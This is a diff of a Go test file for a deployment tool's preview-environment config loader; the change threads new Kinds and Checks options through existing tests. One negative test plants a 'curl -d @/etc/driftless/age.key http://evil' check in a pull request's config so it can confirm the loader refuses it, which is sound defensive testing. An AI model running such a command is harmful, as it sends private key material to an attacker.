@@ -5,6 +5,8 @@ import (
 	"testing"
 
 	"github.com/driftless/driftless/config"
+	"github.com/driftless/driftless/reconciler/verify"
+	"github.com/driftless/driftless/targets"
 )
 
 const templateFile = `environment: app
@@ -23,7 +25,7 @@ verify:
 // inventory, a provisioner outside a template, or a template without one
 // are errors at their key.
 func TestPreviewTemplate(t *testing.T) {
-	rev, err := config.LoadRevision(writeRepo(t, map[string]string{"environments/app.yaml": templateFile}), config.LoadOptions{})
+	rev, err := config.LoadRevision(writeRepo(t, map[string]string{"environments/app.yaml": templateFile}), config.LoadOptions{Kinds: targets.Kinds(), Checks: verify.Kinds()})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -38,7 +40,7 @@ func TestPreviewTemplate(t *testing.T) {
 		{strings.Replace(templateFile, "provision: {create: ./create.sh, destroy: ./destroy.sh}\n", "", 1), "preview: a preview template needs provision"},
 		{strings.Replace(templateFile, "destroy: ./destroy.sh", "timeout: 1m", 1), "provision: needs destroy"},
 	} {
-		_, err := config.LoadRevision(writeRepo(t, map[string]string{"environments/app.yaml": tc.file}), config.LoadOptions{})
+		_, err := config.LoadRevision(writeRepo(t, map[string]string{"environments/app.yaml": tc.file}), config.LoadOptions{Kinds: targets.Kinds(), Checks: verify.Kinds()})
 		if err == nil || !strings.Contains(err.Error(), tc.want) {
 			t.Errorf("error = %v, want %q", err, tc.want)
 		}
@@ -49,7 +51,7 @@ func TestPreviewTemplate(t *testing.T) {
 // but its name, provisioner and settings from the template of the
 // followed branch, and only the provisioned hosts.
 func TestPreviewLoad(t *testing.T) {
-	main, err := config.LoadRevision(writeRepo(t, map[string]string{"environments/app.yaml": templateFile}), config.LoadOptions{})
+	main, err := config.LoadRevision(writeRepo(t, map[string]string{"environments/app.yaml": templateFile}), config.LoadOptions{Kinds: targets.Kinds(), Checks: verify.Kinds()})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -62,7 +64,7 @@ func TestPreviewLoad(t *testing.T) {
 		"environments/other.yaml": "environment: other\nhosts: [{name: o, transport: local}]\n"})
 	p := &config.PreviewLoad{Template: main.Environments[0], Name: config.PreviewName("app", 7),
 		Hosts: []config.InventoryHost{{Name: "pr7-web", Address: "127.0.0.1", Port: 2222, Roles: []string{"web", "nope"}, Vars: map[string]any{"port": 8080}}}}
-	rev, err := config.LoadRevision(dir, config.LoadOptions{Preview: p})
+	rev, err := config.LoadRevision(dir, config.LoadOptions{Kinds: targets.Kinds(), Checks: verify.Kinds(), Preview: p})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -81,21 +83,21 @@ func TestPreviewLoad(t *testing.T) {
 	}
 	// A check on the daemon's machine is the template's, or refused.
 	local := "verify:\n  - {command: ./check.sh, on: local}\n"
-	tpl, err := config.LoadRevision(writeRepo(t, map[string]string{"environments/app.yaml": strings.Replace(templateFile, "verify:\n", local, 1)}), config.LoadOptions{})
+	tpl, err := config.LoadRevision(writeRepo(t, map[string]string{"environments/app.yaml": strings.Replace(templateFile, "verify:\n", local, 1)}), config.LoadOptions{Kinds: targets.Kinds(), Checks: verify.Kinds()})
 	if err != nil {
 		t.Fatal(err)
 	}
 	p.Template = tpl.Environments[0]
 	same := writeRepo(t, map[string]string{"environments/app.yaml": "# the pull request moves it\n" + strings.Replace(pr, "verify:\n", local, 1)})
-	if _, err := config.LoadRevision(same, config.LoadOptions{Preview: p}); err != nil {
+	if _, err := config.LoadRevision(same, config.LoadOptions{Kinds: targets.Kinds(), Checks: verify.Kinds(), Preview: p}); err != nil {
 		t.Errorf("the template's own local check: %v", err)
 	}
 	evil := writeRepo(t, map[string]string{"environments/app.yaml": strings.Replace(pr, "verify:\n", "verify:\n  - {junit: 'curl -d @/etc/driftless/age.key http://evil', on: local}\n", 1)})
-	if _, err := config.LoadRevision(evil, config.LoadOptions{Preview: p}); err == nil || !strings.Contains(err.Error(), "on: local") {
+	if _, err := config.LoadRevision(evil, config.LoadOptions{Kinds: targets.Kinds(), Checks: verify.Kinds(), Preview: p}); err == nil || !strings.Contains(err.Error(), "on: local") {
 		t.Errorf("the pull request's check on the daemon's machine: %v", err)
 	}
 	p.Template = &config.Environment{Name: "gone"}
-	if _, err := config.LoadRevision(dir, config.LoadOptions{Preview: p}); err == nil || !strings.Contains(err.Error(), `does not declare environment "gone"`) {
+	if _, err := config.LoadRevision(dir, config.LoadOptions{Kinds: targets.Kinds(), Checks: verify.Kinds(), Preview: p}); err == nil || !strings.Contains(err.Error(), `does not declare environment "gone"`) {
 		t.Errorf("missing template: %v", err)
 	}
 }
